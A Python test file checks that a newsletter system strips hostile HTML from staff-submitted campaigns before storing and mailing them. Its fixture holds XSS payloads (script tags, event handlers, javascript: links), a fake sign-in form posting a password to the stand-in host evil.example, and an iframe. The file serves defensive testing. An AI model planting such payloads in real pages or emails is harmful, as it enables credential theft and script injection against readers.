"""Campaign HTML from the staff API is stored and mailed through the allow-list: script,
handlers, `javascript:` links, forms and iframes are gone; the text, the safe markup and
the text part stay as sent."""

from __future__ import annotations

import email
import email.policy
from typing import Any

import pytest

from membership.extensions import db
from membership.newsletters.models import Campaign, Newsletter
from membership.newsletters.render import CampaignRenderer
from membership.newsletters.sanitise import sanitise_html
from tests.newsletters.conftest import make_campaign, make_newsletter

HOSTILE = (
    '<h2 onclick="steal()">Long reads</h2>'
    "<p>Three <strong>stories</strong>, <em>no paywall</em>.<script>alert('s')</script></p>"
    '<img src="https://cdn.example.org/river.jpg" alt="The river" onerror="alert(\'e\')">'
    '<img src="x" onerror="alert(\'x\')">'
    '<p><a href="javascript:alert(\'j\')">Click me</a> and <a href="https://example.org/m" target="_blank">'
    "the market</a> or <a href=\"mailto:desk@example.org\">write</a></p>"
    '<form action="https://evil.example/collect" method="post"><input name="password">Sign in again</form>'
    '<iframe src="https://evil.example/frame">framed</iframe>'
    "<table><tr><th>Year</th><td>2026</td></tr></table><blockquote>Quoted</blockquote>"
)
GONE = ("<script", "alert(", "onerror", "onclick", "javascript:", "<form", "<input", "evil.example", "<iframe",
        "framed", 'src="x"', "target=")
KEPT = ("<h2>Long reads</h2>", "<strong>stories</strong>", "<em>no paywall</em>",
        '<img src="https://cdn.example.org/river.jpg" alt="The river">', "Click me",
        '<a href="https://example.org/m" rel="noopener noreferrer">the market</a>',
        '<a href="mailto:desk@example.org" rel="noopener noreferrer">write</a>', "Sign in again",
        "<th>Year</th><td>2026</td>", "<blockquote>Quoted</blockquote>")


def _auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def _check(html: str) -> None:
    for bad in GONE:
        assert bad not in html, bad
    for good in KEPT:
        assert good in html, good


def _mailed_html(campaign: Campaign) -> tuple[str, str]:
    """(html, text) of one reader's copy, built the way the sender builds it."""
    newsletter = db.session.get(Newsletter, campaign.newsletter_id)
    assert newsletter is not None
    wire, _ = CampaignRenderer.build(campaign, newsletter).render(42, "reader@example.org")
    msg = email.message_from_bytes(wire, policy=email.policy.default)
    return (msg.get_body(("html",)).get_content(),  # type: ignore[union-attr]
            msg.get_body(("plain",)).get_content())  # type: ignore[union-attr]


def test_an_api_body_is_stored_and_mailed_sanitised(client: Any, staff_token: str) -> None:
    newsletter = make_newsletter()
    db.session.commit()
    text = "Long reads\n\nThree stories, <script> as written."
    created = client.post("/api/staff/campaigns", headers=_auth(staff_token), json={
        "newsletter_id": newsletter.id, "subject": "Weekend", "body_html": HOSTILE, "body_text": text})
    assert created.status_code == 201, created.get_json()
    campaign = db.session.get(Campaign, created.get_json()["id"])
    assert campaign is not None
    _check(campaign.body_html)
    assert campaign.body_text == text  # the text part is the author's, untouched
    html, plain = _mailed_html(campaign)
    _check(html)
    assert text.replace("\n", "\r\n") in plain


def test_a_body_with_nothing_safe_left_is_refused(client: Any, staff_token: str) -> None:
    newsletter = make_newsletter()
    db.session.commit()
    refused = client.post("/api/staff/campaigns", headers=_auth(staff_token), json={
        "newsletter_id": newsletter.id, "subject": "Weekend", "body_html": "<script>alert(1)</script>"})
    assert refused.status_code == 422 and "no content left" in refused.get_json()["detail"]
    assert db.session.query(Campaign).count() == 0


def test_a_body_stored_before_sanitising_is_mailed_clean(app: Any, db_session: Any) -> None:
    """Rows written before this allow-list (or straight into the table) are cleaned when rendered."""
    campaign = make_campaign(make_newsletter().id, body_html=HOSTILE, body_text="")
    html, plain = _mailed_html(campaign)
    _check(html)
    assert "alert(" not in plain and "Long reads" in plain  # the text made from the cleaned HTML


@pytest.mark.parametrize(("dirty", "clean"), [
    ('<img src="http://example.org/a.png" alt="a">', '<img alt="a">'),  # images only over https
    ('<a href="/relative">r</a>', '<a rel="noopener noreferrer">r</a>'),  # nowhere, in a mail
    ('<p style="color:red" class="x" id="y">p</p>', "<p>p</p>"),  # the template styles the body
    ('<a href="https://e.org" rel="opener">e</a>', '<a href="https://e.org" rel="noopener noreferrer">e</a>'),
    ("<p>a<!-- tracking --></p><style>p{}</style>", "<p>a</p>"),
])
def test_the_allow_list(dirty: str, clean: str) -> None:
    assert sanitise_html(dirty) == clean
    assert sanitise_html(clean) == clean  # idempotent
